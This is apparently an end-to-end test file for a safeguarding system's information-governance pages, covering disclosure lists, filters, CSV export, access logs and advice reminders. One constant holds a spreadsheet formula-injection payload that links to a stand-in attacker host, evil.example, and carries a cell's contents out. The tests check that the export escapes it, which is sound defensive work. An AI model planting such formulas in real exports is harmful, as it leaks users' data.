import { randomId } from '@mash/crypto/random';
import { DataSource } from 'typeorm';
import { RunClocks } from '../../apps/agency-gateway/src/clocks/run-clocks.js';
import { Decisions } from '../../apps/agency-gateway/src/releases/releases.js';
import type { Browser } from '../../tools/play/browser.js';
import { type ACase, FATHER, openCase } from '../releases/a-case.js';
import { mailsOf } from '../releases/rota.js';
import { delivered, sayIsTheSame, shareRecord } from '../releases/share-by-pages.js';
import { INCIDENT, keepPeople, keepRecord, somebody } from '../releases/vault-of-police.js';
import { csvRows } from '../support/csv-rows.js';
import { until } from '../support/system.js';

const father = somebody('Dean Wainscott', { dateOfBirth: '1995-02-17' });
const HOSTILE = '=HYPERLINK("http://evil.example/"&A1,"Dave")';
const HELD_BACK = 520;

let one: ACase;
let officer: Browser;
let lead: Browser;
let governor: Browser;

/** A record of its own about the father. @returns its identifier. */
function aRecord(): Promise<string> {
  return keepRecord(one.system.gateways.police.app, { ...INCIDENT, about: [father] });
}

async function holdBack(record: string, reason: string): Promise<void> {
  await officer.get(`/mash/${one.workspace}/people/${FATHER}/share`);
  officer.fill({ records: [record], readers: ['cef'] });
  await officer.press('Hold back');
  officer.fill({ reason, because: 'We ask first.' });
  await officer.press('Hold back');
}

/** What stands in the list: kind, about, to, by. */
function rows(): string[][] {
  return [...governor.page.html.matchAll(/<tr class="govuk-table__row">(.*?)<\/tr>/gs)]
    .map(([, row = '']) => row.split('</td>').map((cell) => textIn(cell)))
    .slice(1)
    .map(([, what = '', ...others]) => [what.replace(/ of \d.*$/, ''), ...others.slice(0, 3)]);
}

function textIn(html: string): string {
  return html
    .replace(/<[^>]*>/g, ' ')
    .replaceAll('&quot;', '"')
    .replaceAll('&amp;', '&')
    .replace(/\s+/g, ' ')
    .trim();
}

async function narrowed(by: Record<string, string>): Promise<string[][]> {
  await governor.get('/ig/disclosures?show=all');
  governor.fill(by);
  await governor.press('Show these');
  return rows();
}

beforeAll(async () => {
  one = await openCase();
  await keepPeople(one.system.gateways.police.app, father);
  officer = await one.signIn('police', 'officer', ['practitioner']);
  lead = await one.signIn('police', 'lead', ['approver']);
  governor = await one.signIn('police', 'governor', ['information-governance']);
  await sayIsTheSame(one, officer, father);
  await delivered(officer, await shareRecord(one, officer, await aRecord(), 'cef'));
  await officer.get(`/mash/${one.workspace}/people/new`);
  officer.fill({ Name: HOSTILE, isChild: 'no', 'Who they are to the child': 'lodger' });
  await officer.press('Name this person');
});

afterAll(() => one.stop());

describe('the queue of information governance', () => {
  it('holds what left and what stayed, and is narrowed by kind, person, case, officer and legal basis', async () => {
    await holdBack(await aRecord(), 'endangers');
    await governor.get('/ig/disclosures');
    const all = [
      ['Reply: what we share', 'Dean Wainscott', 'cef', 'officer Example'],
      ['Held back', 'Dean Wainscott', 'cef', 'officer Example'],
      ['A person, so that they can be recognised', HOSTILE, 'cef', 'officer Example'],
      ['Release', 'Dean Wainscott', 'cef', 'officer Example'],
    ];
    const sorted = (list: string[][]) => list.map((row) => row.join(' | ')).sort();
    expect(sorted(rows())).toEqual(expect.arrayContaining(sorted(all)));
    const everything = rows().length;
    expect(await narrowed({ Kind: 'held-back' })).toEqual([all[1]]);
    expect(await narrowed({ Kind: 'request' })).toEqual([all[2]]);
    expect(await narrowed({ 'Name of a person it is about': 'hyperlink(' })).toEqual([all[2]]);
    expect(governor.page.url).not.toMatch(/HYPERLINK|hyperlink/);
    await governor.get('/ig/disclosures?show=all');
    const who = governor.page.html.match(
      /<option value="([\da-f-]{36})"[^>]*>officer Example/,
    )?.[1];
    expect(await narrowed({ officer: who ?? '' })).toHaveLength(everything);
    const law = await narrowed({ 'Legal basis': 'G4', 'Case reference': one.workspace });
    expect(law).toContainEqual(all[3]);
    expect(law).not.toContainEqual(all[2]);
    expect(await narrowed({ 'Case reference': randomId() })).toEqual([]);
    await narrowed({ 'Name of a person it is about': 'Nobody at all' });
    expect(governor.errorSummary).toEqual([
      'Nobody of that name stands in any case or concern. Enter less of it',
    ]);
  });

  it('hands the same list out as a file, of which no cell is taken for a formula', async () => {
    await narrowed({ 'Name of a person it is about': 'hyperlink(' });
    await governor.follow('Download this list as a spreadsheet (CSV)');
    expect(governor.page.headers['content-type']).toBe('text/csv; charset=utf-8');
    const [head, ...lines] = csvRows(governor.page.html);
    expect(head?.slice(0, 5)).toEqual(['When', 'What', 'About', 'To', 'By']);
    expect(lines.map(([, , about]) => about)).toEqual([`'${HOSTILE}`]);
    expect(lines[0]?.[7]).toBe(one.workspace);
    const [looked] = await one
      .at('police', DataSource)
      .query(`SELECT act FROM access WHERE subject = 'disclosure' AND subject_id = 'file'`);
    expect(looked).toEqual({ act: 'read' });
  });

  it('goes on for as long as there is more, on pages and in the file', async () => {
    const decisions = one.at('police', Decisions);
    const [kept] = await decisions.all();
    const { salt: _, at: __, ...decision } = kept?.decision ?? {};
    await one.at('police', DataSource).transaction(async (tx) => {
      for (let each = 0; each < HELD_BACK; each += 1) {
        await decisions.keep(tx, null, decision as Parameters<Decisions['keep']>[2]);
      }
    });
    await governor.get('/ig/refusals');
    await governor.follow('Everything that stayed at home, the oldest too');
    const seen = new Set<string>();
    const note = () => {
      for (const { href } of governor.links)
        if (/^\/ig\/refusals\/[\da-f-]{36}$/.test(href)) seen.add(href);
    };
    note();
    while (governor.links.some(({ text }) => text === 'Show older')) {
      await governor.follow('Show older');
      note();
    }
    expect(seen.size).toBe(HELD_BACK + 1);
    await governor.get('/ig/disclosures.csv?show=all&kind=held-back');
    expect(csvRows(governor.page.html)).toHaveLength(HELD_BACK + 2);
  });
});

describe('who has seen a case', () => {
  it('stands on one page for information governance and whoever decides: here by name, elsewhere by role', async () => {
    const reader = await one.signIn('cef', 'reader', ['practitioner']);
    const decider = await one.signIn('cef', 'decider', ['decision-maker']);
    await reader.get(`/mash/${one.workspace}/chronology`);
    const page = `/mash/${one.workspace}/access`;
    await until('the receipt', async () => {
      await governor.get(page);
      return governor.text.includes('cef practitioner Release');
    });
    expect(governor.text).toMatch(/officer Example Chose what to share For case/);
    expect(governor.text).toMatch(/governor Example Looked at who has seen it/);
    expect(governor.text).not.toContain('reader Example');
    await decider.get(`/mash/${one.workspace}`);
    await decider.follow('Who has seen it');
    expect(decider.text).toContain('reader Example Read the case case page');
    for (const browser of [reader, officer]) {
      await browser.get(page);
      expect(browser.heading).toBe('Page not found');
    }
  });
});

describe('holding back to take advice', () => {
  const ENDED = 'Advice was to end: share it, or say why not';
  const HOURS_LATER = 5 * 60;

  it('ends with the request: it alarms, and stands before whoever holds it back and the safeguarding lead', async () => {
    const record = await aRecord();
    await holdBack(record, 'advice');
    await officer.get('/home');
    expect(officer.text).not.toContain(ENDED);
    one.system.clock.forward(HOURS_LATER);
    await one.at('police', RunClocks).look();
    const mails = mailsOf(one.system, 'police').filter((mail) => mail.includes('take advice'));
    expect(mails).toHaveLength(1);
    expect(mails.join()).not.toMatch(/Wainscott|We ask first/);
    for (const browser of [officer, lead]) {
      await browser.get('/home');
      expect(browser.text).toContain(ENDED);
      expect(browser.text).toContain('officer Example held it back to take advice, until');
    }
    await governor.get('/home');
    expect(governor.text).not.toContain(ENDED);
    await holdBack(record, 'endangers');
    for (const browser of [officer, lead]) {
      await browser.get('/home');
      expect(browser.text).not.toContain(ENDED);
    }
    one.system.clock.forward(-HOURS_LATER);
  });
});
